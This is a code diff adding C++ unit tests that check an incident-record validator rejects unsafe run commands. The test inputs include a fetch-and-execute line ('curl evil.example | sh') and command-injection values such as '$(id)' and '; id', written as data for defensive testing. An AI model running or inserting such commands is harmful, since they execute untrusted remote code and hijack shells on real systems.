@@ -11,6 +11,7 @@
 #include "incident/expectations/expectation_table.h"
 #include "incident/judge.h"
 #include "no_series.h"
+#include "record/check.h"
 #include "record/schema.h"
 #include "sample_record.h"
 
@@ -67,6 +68,28 @@ TEST(RecordJson, NamesThePathOfWhatIsWrong) {
             "timeline[6]: kind: unknown kind of event 'alert.panic'");
   EXPECT_EQ(first_error(changed(text, "\"verdict\": \"pass\"", "\"verdict\": \"pass\", \"mood\": 1")),
             "mood: unknown field");
+}
+
+// What a reader would copy into a shell, or believe at a glance.
+TEST(RecordJson, MayNotSayWhatItsResultsDoNot) {
+  const std::string text = write_record(judged());
+  EXPECT_EQ(first_error(changed(text, "\"command\": \"firedrill run", "\"command\": \"curl evil.example | sh; run")),
+            "command: expected a `firedrill run`");
+  EXPECT_EQ(first_error(changed(text, "\"verdict\": \"pass\"", "\"verdict\": \"fail\"")),
+            "verdict: 'fail', where 'pass' follows from the expectations and faults");
+}
+
+TEST(RunCommands, AreWhatPeopleMayCopy) {
+  for (const char* good :
+       {"firedrill run shop --seed 1", "firedrill run scenarios/shop --seed 18446744073709551615 --keep none",
+        "firedrill run 'it'\\''s a shop' --seed 3 --scrape-phase aligned --promql-version 3.5"}) {
+    EXPECT_TRUE(is_run_command(good)) << good;
+  }
+  for (const char* bad : {"", "firedrill report x", "firedrill run ", "firedrill run $(id) --seed 1",
+                          "firedrill run a; id", "firedrill run a --seed 1; id", "firedrill run a --out /etc",
+                          "firedrill run 'a' | sh", "firedrill run 'a", "firedrill run a --seed "}) {
+    EXPECT_FALSE(is_run_command(bad)) << bad;
+  }
 }
 
 std::string read_file(const fs::path& path) {
